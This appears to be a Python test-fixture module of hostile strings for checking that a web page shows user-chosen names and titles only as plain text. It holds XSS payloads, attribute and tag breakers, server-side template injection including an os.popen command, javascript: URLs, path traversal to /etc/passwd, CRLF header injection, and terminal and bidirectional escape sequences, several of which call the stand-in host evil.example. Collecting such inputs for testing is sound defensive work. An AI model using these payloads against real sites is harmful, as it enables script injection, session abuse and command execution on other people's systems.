"""Texts that a stranger may choose: names, lines, titles. A page shows each as text and as nothing else."""

from __future__ import annotations

import unicodedata

CLASSIC = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0d>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    '<img src="x" onerror="alert(1)"',
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href=data:image/svg+xml,x></use></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>click</a>",
    "<form action=//evil.example><input type=submit>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<template><script>alert(1)</script></template>",
)
BREAKERS = (
    '"',
    "'",
    "`",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus=alert(1) x="',
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</pre><script>alert(1)</script>",
    "</noscript><script>alert(1)</script>",
    "</style></script><script>alert(1)</script>",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3c;script&#x3e;alert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "' hx-get='/logout' hx-trigger='load' x='",
    '" hx-on:load="alert(1)',
)
TEMPLATES = (
    "{{7*7}}",
    "{% raw %}",
    "{{ config }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%(name)s",
    "%s%n",
    "{0.__class__}",
)
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/",
    "../../../../etc/passwd",
    "?path=x&csrf=y#z",
)
PEERS = (
    '\u00a7c{"text":"<img src=//evil.example/motd onerror=alert(1)>","clickEvent":{"action":"open_url"}}',
    "[click](javascript:alert(1)) ![x](//evil.example/x.png)",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "<form id=notices><input name=attributes><input name=dataset></form>",
    "<div data-console=1 data-chart='[]' hx-get=/logout hx-trigger=load>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
    "'}};alert(1);//</script><script>alert(1)//",
)
"""What other panels' advisories were about: messages of the day, Markdown, templates, clobbered names, mutations."""
UNSEEN = (
    "line\r\nSet-Cookie: a=b",
    "line\nbreak",
    "tab\there",
    "\u202egnp.exe\u202c",
    "\u2066isolated\u2069",
    "zero\u200bwidth\u200djoined\ufeff",
    "separator\u2028here\u2029there",
    "bell\x07escape\x1b[31mred",
    "\x1b]52;c;b3duZWQ=\x07",
    "\x1b]8;;javascript:alert(1)\x1b\\link",
    "del\x7f\x85\x9b31m",
    "Z\u0351\u036b\u0343\u036a\u0302\u0351a" + "\u0337" * 60 + "lgo",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "😀" * 40,
)
LONG = ("a" * 240, "<b>" * 80)
HOSTILE_TEXTS = (*CLASSIC, *BREAKERS, *TEMPLATES, *ADDRESSES, *PEERS, *UNSEEN, *LONG)
ALL_AT_ONCE = "\"'><img src=//evil.example onerror=alert(1)>\u202e"
"""For what there is only one of: leaves text and attributes, and turns what follows around."""


def as_file_name(text: str) -> str | None:
    """Return the text as a name that a disk takes and the agent lists, or None when there is none."""
    plain = text.replace("/", "|").replace("\\", "|")
    name = "".join(c for c in plain if unicodedata.category(c) not in {"Cc", "Cs", "Zl", "Zp"})
    return name if name.strip(". ") and len(name.encode()) <= 255 else None
